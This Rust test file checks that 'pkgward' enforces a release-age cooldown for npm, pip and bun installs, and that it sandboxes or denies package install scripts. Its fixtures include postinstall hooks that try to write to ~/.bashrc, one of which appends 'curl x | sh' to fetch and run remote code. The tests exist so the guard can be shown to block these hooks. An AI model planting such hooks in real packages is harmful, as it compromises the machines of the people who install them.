//! The release-age cooldown (`[registries] min_release_age`), end to end
//! with the real npm and pip behind the shims against the loopback
//! registries, whose metadata carries the publish times.

mod support;

use std::sync::OnceLock;
use std::time::SystemTime;

use support::guard::{text, Guarded};
use support::{days_ago, js_marker, shared, NpmPackage, Wheel};

fn fixtures() {
    static DONE: OnceLock<()> = OnceLock::new();
    DONE.get_or_init(|| {
        let r = shared();
        for (v, t) in [("1.0.0", days_ago(10)), ("1.1.0", SystemTime::now())] {
            r.publish_npm(
                &NpmPackage::new("pw-cool", v)
                    .published_at(t)
                    .file("index.js", format!("module.exports = '{v}';\n")),
            );
        }
        r.publish_npm(
            &NpmPackage::new("pw-cool-app", "1.0.0")
                .published_at(days_ago(10))
                .dep("pw-cool", "^1.0.0")
                .file("index.js", "module.exports = require('pw-cool');\n"),
        );
        r.publish_wheel(&Wheel::new("pw-cool-py", "1.0.0").uploaded_at(days_ago(10)));
        r.publish_npm(
            &NpmPackage::new("pw-cool-cli", "1.0.0")
                .published_at(days_ago(10))
                .field("bin", serde_json::json!({"pw-cool-cli": "cli.js"}))
                .executable(
                    "cli.js",
                    "#!/usr/bin/env node\nconsole.log(JSON.stringify(process.argv.slice(2)));\n",
                ),
        );
    });
}

fn guarded(mode: &str, age: &str) -> Guarded {
    guarded_with(mode, age, "")
}

fn guarded_with(mode: &str, age: &str, extra: &str) -> Guarded {
    fixtures();
    let g = Guarded::new(&format!(
        "mode = \"{mode}\"\n[registries]\nmin_release_age = {age}\nnpm = [\"{}\"]\npypi = [\"{}\"]\n{extra}",
        shared().npm_url(),
        shared().pypi_index_url()
    ));
    g.sb.write("package.json", r#"{"name":"app","version":"1.0.0"}"#);
    g
}

fn installed_version(g: &Guarded, pkg: &str) -> String {
    let p =
        g.sb.work
            .join("node_modules")
            .join(pkg)
            .join("package.json");
    let v: serde_json::Value = serde_json::from_slice(&std::fs::read(p).unwrap()).unwrap();
    v["version"].as_str().unwrap().to_string()
}

#[test]
fn npm_installs_the_older_version_and_refuses_the_newer_one() {
    let g = guarded("enforce", "\"48h\"");
    // A range: npm picks the newest version old enough, directly and as a
    // dependency of another package.
    let out = g.npm(&["install", "pw-cool-app"], &[]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(installed_version(&g, "pw-cool"), "1.0.0");
    let inv = g.last_invocation();
    assert_eq!(inv["decision"]["cooldown"]["via"], "npm_config_before");
    assert_eq!(inv["decision"]["cooldown"]["min_release_age_secs"], 172_800);

    // The too-new version by name: npm finds no version old enough, and
    // pkgward says why.
    let out = g.npm(&["install", "pw-cool@1.1.0"], &[]);
    let err = text(&out.stderr);
    assert!(!out.status.success(), "{err}");
    assert!(err.contains("release-age cooldown of 2d"), "{err}");
    assert_eq!(installed_version(&g, "pw-cool"), "1.0.0");

    // A project .npmrc moving the date does not win over pkgward's setting;
    // the same on the command line is denied before npm runs.
    g.sb.write(".npmrc", "before=2099-01-01T00:00:00Z\n");
    let out = g.npm(&["install", "pw-cool@1.1.0"], &[]);
    assert!(!out.status.success(), "{}", text(&out.stderr));
    let out = g.npm(&["install", "--before=2099-01-01", "pw-cool@1.1.0"], &[]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(77), "{err}");
    assert!(err.contains("--before=2099-01-01"), "{err}");

    // Without the cooldown the new version installs.
    let g2 = guarded("enforce", "{ npm = \"0s\" }");
    let out = g2.npm(&["install", "pw-cool"], &[]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(installed_version(&g2, "pw-cool"), "1.1.0");
    assert!(g2.last_invocation()["decision"].get("cooldown").is_none());
}

#[test]
fn a_pip_without_a_publish_time_filter_fails_closed() {
    let g = guarded("enforce", "{ default = \"2d\" }");
    let target = g.sb.root().join("site");
    let t = target.to_str().unwrap();
    let out = g.pip(&["install", "--target", t, "pw-cool-py"], &[]);
    let err = text(&out.stderr);
    if out.status.success() {
        // A pip with --uploaded-prior-to: the cooldown applies through it.
        assert_eq!(
            g.last_invocation()["decision"]["cooldown"]["via"],
            "PIP_UPLOADED_PRIOR_TO"
        );
        return;
    }
    assert_eq!(out.status.code(), Some(77), "{err}");
    assert!(err.contains("--uploaded-prior-to"), "{err}");
    assert!(err.contains("min_release_age set at"), "{err}");
    assert!(!target.exists());
    // Audit mode: recorded, and pip runs.
    let g = guarded("audit", "\"2d\"");
    let out = g.pip(&["install", "--target", t, "pw-cool-py"], &[]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let inv = g.last_invocation();
    assert_eq!(inv["decision"]["action"], "would-deny");
    assert_eq!(
        inv["decision"]["reasons"][0]["code"],
        "release-age-unenforceable"
    );
    // Commands that install nothing are not affected.
    let out = g.pip(&["--version"], &[]);
    assert!(out.status.success());
}

/// A 48h cooldown with the `bun` and `bunx` shims, bun's registry the
/// loopback one (global bunfig) and its cache `bun-cache` (the environment
/// returned).
fn bun_guarded(extra: &str) -> (Guarded, support::tools::EnvList) {
    let g = guarded_with("enforce", "\"48h\"", extra);
    let reg = shared().npm_url();
    std::fs::create_dir_all(g.sb.home.join(".config")).unwrap();
    std::fs::write(
        g.sb.home.join(".config/.bunfig.toml"),
        format!("[install]\nregistry = \"{reg}\"\n"),
    )
    .unwrap();
    for tool in ["bunx", "bun"] {
        let shim = g.shims.join(tool);
        if !shim.exists() {
            std::os::unix::fs::symlink(support::guard::pkgward_bin(), shim).unwrap();
        }
    }
    let cache = g.sb.root().join("bun-cache");
    let env = support::guard::to_env(&[("BUN_INSTALL_CACHE_DIR", cache.to_str().unwrap())]);
    (g, env)
}

/// bunx and `bun x` under the cooldown: the release-age filter goes before
/// the package (after it, it would be the package's own arguments), and
/// only the age (bunx refuses an exemption list on its command line).
#[test]
fn bunx_gets_the_release_age_before_the_package() {
    let (g, env) = bun_guarded("[scripts]\nallow = [\"npm:pw-cool-cli\"]\n");
    for (tool, args) in [
        ("bunx", &["pw-cool-cli", "hi", "--x"][..]),
        ("bun", &["x", "pw-cool-cli", "hi", "--x"][..]),
    ] {
        let out =
            g.sb.command(tool, &[g.pkgward_env(), env.clone()])
                .args(args)
                .output()
                .unwrap();
        let err = text(&out.stderr);
        assert!(out.status.success(), "{tool}: {err}");
        assert_eq!(text(&out.stdout), "[\"hi\",\"--x\"]\n", "{tool}: {err}");
        let inv = g.last_invocation();
        assert_eq!(
            inv["decision"]["cooldown"]["via"], "--minimum-release-age",
            "{inv:#}"
        );
    }
}

// bunx under the cooldown: the cache entry pkgward prepares is bunx's.

fn bunx_fixtures() {
    static DONE: OnceLock<()> = OnceLock::new();
    DONE.get_or_init(|| {
        fixtures();
        let r = shared();
        // What the tool needs built; it also tries to write outside.
        r.publish_npm(
            &NpmPackage::new("pw-cool-native", "1.0.0")
                .published_at(days_ago(10))
                .script("postinstall", "node build.js")
                .file(
                    "build.js",
                    format!(
                        "{}const os = require('os');\n\
                         let seen = 'bashrc:refused';\n\
                         try {{ fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'native\\n'); seen = 'bashrc:written'; }} catch (e) {{}}\n\
                         fs.appendFileSync(path.join(dir, 'cool-native'), seen + '\\n');\n\
                         fs.writeFileSync(path.join(__dirname, 'built.txt'), 'native\\n');\n",
                        js_marker("cool-native-ran")
                    ),
                ),
        );
        r.publish_npm(
            &NpmPackage::new("pw-cool-sneak", "1.0.0")
                .published_at(days_ago(10))
                .script("postinstall", "node sneak.js")
                .file(
                    "sneak.js",
                    format!(
                        "{}fs.appendFileSync(path.join(require('os').homedir(), '.bashrc'), 'curl x | sh\\n');\n",
                        js_marker("cool-sneak")
                    ),
                ),
        );
        let cli = "#!/usr/bin/env node\n\
                   const fs = require('fs'), path = require('path');\n\
                   const dir = path.dirname(require.resolve('pw-cool-native/package.json'));\n\
                   if (!fs.existsSync(path.join(dir, 'built.txt'))) { console.log('native missing'); process.exit(3); }\n\
                   console.log('tool ok', require('./package.json').version, process.argv.slice(2).join(' '));\n";
        // The newest version (`latest`) is too new for the cooldown; the
        // same as what `bun create pw-cool-tool` runs.
        for name in ["pw-cool-tool", "create-pw-cool-tool"] {
            for (v, t) in [("1.0.0", days_ago(10)), ("1.1.0", SystemTime::now())] {
                r.publish_npm(
                    &NpmPackage::new(name, v)
                        .published_at(t)
                        .dep("pw-cool-native", "^1.0.0")
                        .dep("pw-cool-sneak", "^1.0.0")
                        .field("bin", serde_json::json!({ name: "cli.js" }))
                        .executable("cli.js", cli),
                );
            }
        }
    });
}

/// bunx under a release-age cooldown names its entry with the filter
/// (`NAME@latest+min-age=SECS`) and installs into it with the filter:
/// pkgward prepares that entry the same way, so bunx runs the newest
/// version old enough from it without installing: the approved dependency
/// built there, confined (it could not write the home) and recorded with
/// its exit code, duration and sandbox; the unapproved one did nothing and
/// is listed with its approve command and recorded as denied. A dist-tag
/// (`@latest` named) is installed with the filter too, and bunx is given
/// the version installed, whose entry (`NAME@1.0.0+min-age=SECS`) pkgward
/// prepared. `bun create` passes no filter on to its install (nor names
/// its entry with it): pkgward's install of its entry applies it.
#[test]
fn bunx_under_the_cooldown_runs_from_the_entry_pkgward_prepared() {
    bunx_fixtures();
    for (tool, args, entry, expected) in [
        (
            "bunx",
            &["pw-cool-tool", "a"][..],
            "pw-cool-tool@latest+min-age=172800",
            "tool ok 1.0.0 a\n",
        ),
        (
            "bunx",
            &["pw-cool-tool@latest", "b"][..],
            "pw-cool-tool@1.0.0+min-age=172800",
            "tool ok 1.0.0 b\n",
        ),
        (
            "bun",
            &["create", "pw-cool-tool", "c"][..],
            "create-pw-cool-tool@latest",
            "tool ok 1.0.0 c\n",
        ),
    ] {
        let (g, env) = bun_guarded(
            "[scripts]\nallow = [\"npm:pw-cool-tool\", \"npm:create-pw-cool-tool\", \"npm:pw-cool-native\"]\n",
        );
        std::fs::write(g.sb.home.join(".bashrc"), "# rc\n").unwrap();
        let npm = g.sb.npm_env(&shared().npm_url());
        let o =
            g.sb.command(tool, &[npm, g.pkgward_env(), env])
                .args(args)
                .output()
                .unwrap();
        let (out, err) = (text(&o.stdout), text(&o.stderr));
        assert!(o.status.success(), "{args:?}: {out}\n{err}");
        assert_eq!(out, expected, "{args:?}: {err}");
        assert_eq!(
            g.sb.marker("cool-native").as_deref(),
            Some("bashrc:refused\n"),
            "{err}"
        );
        assert_eq!(g.sb.marker("cool-sneak"), None, "{err}");
        assert_eq!(
            std::fs::read_to_string(g.sb.home.join(".bashrc")).unwrap(),
            "# rc\n"
        );
        assert!(
            err.contains("pkgward approve npm:pw-cool-sneak@1.0.0"),
            "{err}"
        );
        assert!(!err.contains("did not build"), "{err}");
        let recs: Vec<_> = g
            .audit()
            .into_iter()
            .filter(|r| r["kind"] == "script")
            .collect();
        let one = |name: &str| {
            let r: Vec<_> = recs.iter().filter(|r| r["package"] == name).collect();
            assert_eq!(r.len(), 1, "{name}: {recs:#?}");
            r[0].clone()
        };
        let native = one("pw-cool-native");
        assert_eq!(native["decision"], "approved", "{native:#}");
        assert_eq!(native["ran"], true, "{native:#}");
        assert_eq!(native["exit_code"], 0, "{native:#}");
        assert!(native["duration_ms"].is_number(), "{native:#}");
        assert!(native["sandbox"].is_object(), "{native:#}");
        let sneak = one("pw-cool-sneak");
        assert_eq!(sneak["decision"], "deny", "{sneak:#}");
        assert_eq!(sneak["ran"], false, "{sneak:#}");
        // bunx used pkgward's entry: it installed none of its own.
        let private = std::fs::read_dir(g.sb.root().join("bun-cache"))
            .unwrap()
            .filter_map(|e| e.ok())
            .find(|e| e.file_name().to_string_lossy().starts_with(".bunx-"))
            .unwrap()
            .path();
        let mut entries: Vec<String> = std::fs::read_dir(private)
            .unwrap()
            .filter_map(|e| e.ok())
            .filter(|e| e.path().is_dir())
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect();
        entries.sort();
        assert_eq!(entries, [entry], "{err}");
    }
}
